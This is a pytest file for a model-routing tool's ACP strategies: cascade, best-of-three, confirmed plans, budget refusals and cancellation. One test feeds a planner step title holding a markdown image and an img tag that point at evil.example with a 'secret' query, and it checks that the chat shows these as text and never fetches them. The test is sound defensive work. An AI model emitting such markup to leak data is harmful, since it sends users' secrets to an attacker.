"""Strategies over ACP, end to end: the session's strategy option, priced as a button before anything
runs; a cascade whose first model's edit fails the check in the sandbox and whose second passes;
best of three with a synthesiser; a plan shown in the chat, confirmed, its steps as plan entries,
stopping at a step that failed with what remains; a strategy refused by the budget before any call.
The ACP SDK's client side starts `modelroute acp`; the real SDKs talk to the fake provider; the real
sandbox runs the check; the real ledger records every attempt."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from acp.schema import PermissionOption, ToolCallUpdate

from modelroute_testing.fakeprovider.server import FakeProvider
from tests.acp.client import RecordingClient, clean_env, start_agent
from tests.lsp_run.run_helpers import PROVIDER_TOML, ledger_rows
from tests.run.scenarios import (
    CALC,
    CHECK,
    FIX_INSTRUCTION,
    OTHER_RIGHT_FIX,
    RIGHT_FIX,
    WRONG_FIX,
    edit,
    plan_answer,
    project,
    synthesis,
)
from tests.sandbox.conftest import needs_bwrap

pytestmark = [needs_bwrap]

WORKSPACE_TOML = '[models]\nallow = ["claude-*", "gpt-*"]\n'
FIXED = CALC.replace("a - b", "a + b")


class Project:
    """The scenarios' project (`add` subtracts, its test wants a sum) as an ACP session's folder; the
    check is the user's own (a workspace file cannot name a command to run)."""

    def __init__(self, home: Path, fake: FakeProvider) -> None:
        self.home, self.fake = home, fake
        self.root = project(home / "ws")
        (self.root / ".git").mkdir()
        (self.root / ".modelroute.toml").write_text(WORKSPACE_TOML)
        config = home / "config" / "modelroute" / "config.toml"
        config.parent.mkdir(parents=True)
        config.write_text(PROVIDER_TOML + f'\n[verify]\ncommand = "{CHECK}"\n')
        self.env = clean_env(home, {
            "ANTHROPIC_API_KEY": "sk-ant-test-key", "OPENAI_API_KEY": "sk-test-key",
            "ANTHROPIC_BASE_URL": fake.anthropic_base_url, "OPENAI_BASE_URL": fake.openai_base_url,
        })

    def calc(self) -> str:
        return (self.root / "calc.py").read_text()

    def rows(self) -> list[dict[str, Any]]:
        return ledger_rows(self.home / "data")

    def agent(self, client: RecordingClient) -> Any:
        return start_agent(client, self.env, self.home / "agent.stderr")

    async def turn(self, client: RecordingClient, strategy: str, text: str = FIX_INSTRUCTION, *,
                   mode: str = "choose") -> Any:
        """One prompt about calc.py in a new session with `strategy` and `mode`; the prompt's response."""
        async with self.agent(client) as agent:
            session = await start(agent, strategy)
            if mode != "choose":
                await agent.conn.set_config_option(config_id="mode", session_id=session, value=mode)
            return await agent.ask(session, text, self.root.joinpath("calc.py").as_uri())


@pytest.fixture(scope="module")
def fake() -> Any:
    with FakeProvider() as provider:
        yield provider


@pytest.fixture
def ws(tmp_path: Path, fake: FakeProvider) -> Project:
    fake.reset()
    return Project(tmp_path, fake)


Script = Callable[[str, list[str]], None]


def user(script: Script | None = None, *, apply_failing: bool = False) -> Any:
    """A user who picks the session's strategy (first telling `script` its kind and models, so the
    test can give each model its replies), lets the check run in the sandbox, runs a plan as shown,
    and applies a change set (one that failed its check only with `apply_failing`)."""
    def answer(options: list[PermissionOption], call: ToolCallUpdate) -> str | None:
        ids = [o.option_id for o in options]
        if call.kind == "think":  # the priced choice
            button = next(i for i in ids if i.startswith("strategy:"))
            _, kind, models = button.split(":", 2)
            if script is not None:
                script(kind, models.split(","))
            return button
        if call.kind == "execute":
            return next(o.option_id for o in options if o.name == "Run in sandbox")
        if call.kind == "edit":
            failing = (call.title or "").startswith("Check failed")
            return "apply" if apply_failing or not failing else "reject"
        return next(o.option_id for o in options if o.name == "Run the plan")
    return answer


async def start(agent: Any, strategy: str) -> str:
    session: str = await agent.session(agent.client.root)
    option = next(o for o in agent.options if o.id == "strategy")
    assert [v.value for v in option.options] == ["auto", "single", "cascade", "best-of-n", "plan"]
    assert option.current_value == "auto" and option.category == "model_config"
    await agent.conn.set_config_option(config_id="strategy", session_id=session, value=strategy)
    return session


def final_plan(client: RecordingClient) -> list[tuple[str, str]]:
    return [(e.content, e.status) for e in client.plans()[-1].entries]


def diffs(call: ToolCallUpdate) -> list[Any]:
    return [c for c in call.content or [] if getattr(c, "type", "") == "diff"]


async def test_a_cascade_escalates_after_a_failed_check_and_offers_one_passing_diff(ws: Project) -> None:
    models: list[str] = []

    def script(kind: str, listed: list[str]) -> None:
        assert kind == "cascade" and len(listed) >= 2
        models.extend(listed)
        ws.fake.queue_for(listed[0], WRONG_FIX)  # fails the test: 2 * 3 != 5
        ws.fake.queue_for(listed[1], RIGHT_FIX)

    client = RecordingClient(ws.root, watch=("calc.py",))
    client.answers = [user(script)] * 6
    response = await ws.turn(client, "cascade")

    assert response.stop_reason == "end_turn"
    button = client.asked[0].options[0]
    assert button.name.startswith("Run Cascade ") and " -> " in button.name and "at most $" in button.name
    assert client.asked[0].options[-1].name == "Don't run"
    first, second = models[:2]
    # Each attempt its own ledger row, with its verdict; only the second offered.
    rows = ws.rows()
    assert [(r["model"], r["strategy"], r["verified"], r["offered"]) for r in rows] == [
        (first, "cascade", "fail", 0), (second, "cascade", "pass", 1)]
    # The next model was told what failed.
    second_asked = [r.raw_without_auth() for r in ws.fake.model_requests() if f'"{second}"' in r.raw_without_auth()]
    assert second_asked and "failed (exit 1)" in second_asked[0]
    # One diff offered, the passing one, with the file unchanged on disk until Apply.
    edits = [a for a in client.asked if a.tool_call.kind == "edit"]
    assert len(edits) == 1
    [diff] = diffs(edits[0].tool_call)
    assert diff.path == str(ws.root / "calc.py") and diff.old_text == CALC and diff.new_text == FIXED
    assert edits[0].disk["calc.py"] == CALC and ws.calc() == FIXED
    # The plan shows each attempt and its check.
    plan = final_plan(client)
    checks = [content for content, _ in plan if content.startswith("Check of ")]
    assert len(checks) == 2, plan
    assert "cascade step 1 of" in checks[0] and "failed (exit 1)" in checks[0]
    assert "cascade step 2 of" in checks[1] and "passed" in checks[1]
    assert all(status == "completed" for _, status in plan), plan
    # The cost of both attempts, in the usage update and the closing line.
    spent = sum(r["act_usd"] for r in rows)
    usage = client.usage()[-1]
    assert usage.cost is not None and usage.cost.amount == pytest.approx(spent, abs=2e-6) and spent > 0
    text = client.text()
    assert "**Applied**" in text and first in text and second in text


async def test_best_of_three_with_a_synthesiser(ws: Project) -> None:
    models: list[str] = []

    def script(kind: str, listed: list[str]) -> None:
        assert kind == "best-of-n" and len(listed) == 3
        models.extend(listed)
        for model, replies in zip(listed, [RIGHT_FIX, OTHER_RIGHT_FIX, WRONG_FIX], strict=True):
            ws.fake.queue_for(model, replies)
            ws.fake.queue_for(model, synthesis("PICK A"))  # whichever of them synthesises picks a passing one

    client = RecordingClient(ws.root, watch=("calc.py",))
    client.answers = [user(script)] * 8
    response = await ws.turn(client, "best-of-n")

    assert response.stop_reason == "end_turn"
    assert client.asked[0].options[0].name.startswith("Run Best of 3 (")
    rows = ws.rows()
    attempts = sorted((r["model"], r["verified"]) for r in rows[:3])  # side by side; the synthesiser after them
    assert attempts == sorted(zip(models, ["pass", "pass", "fail"], strict=True))
    assert len(rows) == 4 and {r["strategy"] for r in rows} == {"best-of-n"}
    # Every candidate's verdict and cost beside the result; the synthesiser's decision said.
    text = client.text()
    assert "Best of N: the candidates" in text and "the synthesiser chose to pick" in text
    edits = [a for a in client.asked if a.tool_call.kind == "edit"]
    assert len(edits) == 1 and edits[0].disk["calc.py"] == CALC
    [diff] = diffs(edits[0].tool_call)
    assert diff.new_text in (FIXED, CALC.replace("a - b", "sum((a, b))"))
    assert ws.calc() == diff.new_text
    plan = final_plan(client)
    assert sum(c.startswith("Check of ") for c, _ in plan) == 3, plan
    assert any("synthesiser" in c for c, _ in plan), plan
    usage = client.usage()[-1]
    assert usage.cost is not None and usage.cost.amount == pytest.approx(sum(r["act_usd"] for r in rows), abs=4e-6)


STEPS = [
    {"title": "Fix add", "instruction": "Make add in calc.py return the sum.", "kind": "debugging"},
    {"title": "Break add", "instruction": "Make add in calc.py multiply.", "kind": "quick_edit"},
    {"title": "Document add", "instruction": "Add a docstring to add in calc.py.", "kind": "quick_edit"},
]


async def test_a_plan_is_shown_confirmed_run_as_entries_and_stops_at_a_failed_step(ws: Project) -> None:
    planner: list[str] = []

    def script(kind: str, listed: list[str]) -> None:
        assert kind == "plan" and len(listed) == 1
        planner.extend(listed)
        ws.fake.queue_for(listed[0], plan_answer(STEPS))
        # Step 1 fixes add; every attempt at step 2 breaks it (its check fails, whatever model runs it).
        ws.fake.queue(*RIGHT_FIX, *[r for _ in range(4) for r in edit("return a + b", "return a * b")])

    asked_models: list[int] = []  # model requests made when the plan's confirmation came

    def answer(options: list[PermissionOption], call: ToolCallUpdate) -> str | None:
        if any(o.name == "Run the plan" for o in options):
            asked_models.append(len(ws.fake.model_requests()))
        return user(script)(options, call)

    client = RecordingClient(ws.root, watch=("calc.py",))
    client.answers = [answer] * 12
    instruction = ("Refactor the calc module across files: fix add, then make it multiply, then document it, "
                   "updating every caller")
    response = await ws.turn(client, "plan", instruction)

    assert response.stop_reason == "end_turn", client.text()
    assert client.asked[0].options[0].name.startswith("Run Plan with ")
    # The plan was shown in the chat and confirmed through a permission question before any step ran.
    text = client.text()
    assert "## 1. Fix add" in text and "## 3. Document add" in text
    confirm = next(a for a in client.asked if any(o.name == "Run the plan" for o in a.options))
    assert [o.kind for o in confirm.options] == ["allow_once", "reject_once"]
    assert client.asked.index(confirm) == 1 and asked_models == [1]  # only the planner ran before it
    # Steps as plan entries: the first done, the second stopped, the third not run.
    plan = dict(final_plan(client))
    assert plan["Step 1: Fix add"] == "completed"
    [stopped] = [c for c in plan if c.startswith("Step 2: Break add")]
    assert "the plan stopped here" in stopped and plan[stopped] == "completed"
    assert plan["Step 3: Document add — not run"] == "pending"
    # What remains is said; step 1's fix is on disk (applied), step 2's failing result is not.
    assert "2 step(s) not done" in text and "3. Document add" in text
    assert ws.calc() == FIXED
    rows = ws.rows()
    assert rows[0]["model"] == planner[0] and {r["strategy"] for r in rows} == {"plan"}
    assert rows[1]["verified"] == "pass" and all(r["verified"] == "fail" for r in rows[2:])


async def test_a_strategy_over_the_budget_is_refused_before_any_call(ws: Project) -> None:
    client = RecordingClient(ws.root)
    seen: list[str] = []

    def probe(options: list[PermissionOption], _call: ToolCallUpdate) -> str | None:
        seen.append(options[0].name)
        return "cancel"  # Don't run

    client.answers = [probe, user()]
    async with ws.agent(client) as agent:
        session = await start(agent, "best-of-n")
        await agent.ask(session, FIX_INSTRUCTION, ws.root.joinpath("calc.py").as_uri())
        most = float(re.findall(r"at most \$([\d.]+)", seen[0])[-1])
        (ws.root / ".modelroute.toml").write_text(WORKSPACE_TOML + f"\n[budget]\ndaily_usd = {most * 0.6!r}\n")
        response = await agent.ask(session, FIX_INSTRUCTION, ws.root.joinpath("calc.py").as_uri())

    assert response.stop_reason == "end_turn"
    assert ws.fake.model_requests() == [] and ws.rows() == [] and ws.calc() == CALC
    text = client.text()
    assert "could cost up to" in text and "Nothing was sent to any model" in text and "today's budget" in text
    assert "Refused by the budget" in text


async def test_cancel_during_a_cascade_stops_it_and_calls_no_further_model(ws: Project) -> None:
    import asyncio

    from acp.schema import AgentPlanUpdate

    from modelroute_testing.fakeprovider.script import Reply

    class Stopper(RecordingClient):
        """Presses stop once the first model's text streams into the plan."""

        stop: asyncio.Future[None] | None = None

        async def session_update(self, session_id: str, update: Any, **kwargs: Any) -> None:
            await super().session_update(session_id, update, **kwargs)
            streaming = isinstance(update, AgentPlanUpdate) and any("so far" in e.content for e in update.entries)
            if streaming and self.stop is None and self.conn is not None:
                self.stop = asyncio.ensure_future(self.conn.cancel(session_id=session_id))

    def script(kind: str, listed: list[str]) -> None:
        ws.fake.queue_for(listed[0], Reply(text="slow " * 400, chunk_chars=5, event_delay_s=0.05))
        for model in listed[1:]:
            ws.fake.queue_for(model, RIGHT_FIX)

    client = Stopper(ws.root, watch=("calc.py",))
    client.answers = [user(script)] * 4
    response = await ws.turn(client, "cascade")

    assert response.stop_reason == "cancelled"
    assert len(ws.fake.model_requests()) == 1, client.text()  # the next step of the cascade never started
    assert [r["outcome"] for r in ws.rows()] == ["cancelled"] and ws.calc() == CALC


async def test_an_answer_asked_for_as_a_cascade_runs_with_one_model_and_says_why(ws: Project) -> None:
    from modelroute_testing.fakeprovider.script import Reply

    ws.fake.queue(Reply(text="add subtracts its arguments."))
    client = RecordingClient(ws.root)
    response = await ws.turn(client, "cascade", "explain what add does", mode="run")

    assert response.stop_reason == "end_turn" and client.asked == []  # mode "run": no question first
    text = client.text()
    assert "answers have nothing to check or merge" in text and "add subtracts its arguments." in text
    rows = ws.rows()
    assert len(rows) == 1 and rows[0]["strategy"] == "single" and rows[0]["outcome"] == "answered"


async def test_run_mode_runs_the_session_s_strategy_at_once(ws: Project) -> None:
    client = RecordingClient(ws.root, watch=("calc.py",))
    ws.fake.queue(*RIGHT_FIX)  # the cascade's first step passes: no other model is asked
    client.answers = [user()] * 4
    response = await ws.turn(client, "cascade", mode="run")

    assert response.stop_reason == "end_turn"
    assert not any(a.tool_call.kind == "think" for a in client.asked)  # nothing asked before the run
    rows = ws.rows()
    assert [(r["strategy"], r["verified"], r["offered"]) for r in rows] == [("cascade", "pass", 1)]
    assert ws.calc() == FIXED


async def test_a_cancelled_plan_runs_no_step_and_a_planner_cannot_make_the_chat_fetch(ws: Project) -> None:
    hostile = [{**STEPS[0], "title": "Fix add ![x](https://evil.example/?k=secret) <img src=https://evil.example/i>"}]

    def script(kind: str, listed: list[str]) -> None:
        ws.fake.queue_for(listed[0], plan_answer(hostile))

    def answer(options: list[PermissionOption], call: ToolCallUpdate) -> str | None:
        if any(o.name == "Run the plan" for o in options):
            return next(o.option_id for o in options if o.name == "Cancel")
        return user(script)(options, call)

    client = RecordingClient(ws.root)
    client.answers = [answer] * 3
    response = await ws.turn(client, "plan", "Refactor the calc module across files: fix add, updating every caller")

    assert response.stop_reason == "end_turn"
    assert len(ws.fake.model_requests()) == 1 and [r["outcome"] for r in ws.rows()] == ["answered"]  # the planner only
    text = client.text()
    assert "you cancelled it" in text and ws.calc() == CALC
    assert "evil.example" in text and "![x](" not in text and "<img" not in text  # shown as text, never fetched
    assert not any(c.startswith("Step ") for c, _ in final_plan(client))  # no step was queued


async def test_by_default_the_policy_s_cascade_is_offered_first_and_a_pinned_model_runs_alone(ws: Project) -> None:
    seen: list[list[str]] = []

    def look(options: list[PermissionOption], _call: ToolCallUpdate) -> str | None:
        seen.append([o.option_id for o in options])
        return "cancel"  # Don't run

    client = RecordingClient(ws.root)
    client.answers = [look, look]
    async with ws.agent(client) as agent:
        session = await agent.session(ws.root)  # the strategy option is "auto"
        await agent.ask(session, FIX_INSTRUCTION, ws.root.joinpath("calc.py").as_uri())
        await agent.conn.set_config_option(config_id="model", session_id=session, value="claude-haiku-4-5")
        await agent.ask(session, FIX_INSTRUCTION, ws.root.joinpath("calc.py").as_uri())

    # A check and a cheaper cascade than the routed model alone: the policy's default, priced first.
    assert seen[0][0].startswith("strategy:cascade:") and seen[0][1].startswith("run:"), seen
    assert seen[1][0] == "run:claude-haiku-4-5" and not any(i.startswith("strategy:") for i in seen[1])
    assert ws.fake.model_requests() == []
